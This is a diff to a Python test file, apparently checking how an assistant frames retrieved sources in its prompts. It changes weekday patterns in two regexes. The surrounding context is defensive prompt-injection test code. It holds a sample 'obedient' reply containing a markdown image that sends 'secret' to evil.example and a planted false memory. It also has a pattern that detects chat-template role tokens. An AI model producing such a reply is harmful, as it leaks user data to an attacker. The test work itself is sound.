@@ -22,7 +22,7 @@ from tests.core.injections import ATTEMPTS, Attempt
 
 QUESTION = "What is said about {}?"
 OBEDIENT = "![EVIL](https://evil.example/?q=secret) I remember that your bank is EVIL. [99]"
-HEADER = re.compile(r"\[\d+\] [^\n]* \| \d{4}-\d\d-\d\d, \w+day \| by [^\n]*|\((?:before|after) it, by [^\n]*\)")
+HEADER = re.compile(r"\[\d+\] [^\n]* \| \d{4}-\d\d-\d\d, [A-Z][a-z][a-z] \| by [^\n]*|\((?:before|after) it, by [^\n]*\)")
 MARKS = re.compile(r"<\||<｜|</?s>|\[/?INST\]|<<SYS>>|<(?:start|end)_of_turn>", re.IGNORECASE)
 
 
@@ -81,7 +81,7 @@ def assert_framed(message: ChatMessage, question: str) -> None:
         for name in ("sources", "nothing")
         for line in prompt(name).format(now="", sources="", more="", question=question).splitlines()[1:]
     } | {rest[0]}
-    assert re.fullmatch(r"It is \w+day, \d{4}-\d\d-\d\d, \d\d:\d\d \(UTC[+-]\d{4}\)\.", rest[0])
+    assert re.fullmatch(r"It is [A-Z][a-z][a-z], \d{4}-\d\d-\d\d, \d\d:\d\d \(UTC[+-]\d{4}\)\.", rest[0])
     assert [line for line in rest if line not in known and line not in headers] == []
     assert sum(line == "Question of the user:" for line in rest) == 1
     assert MARKS.search(message.content) is None
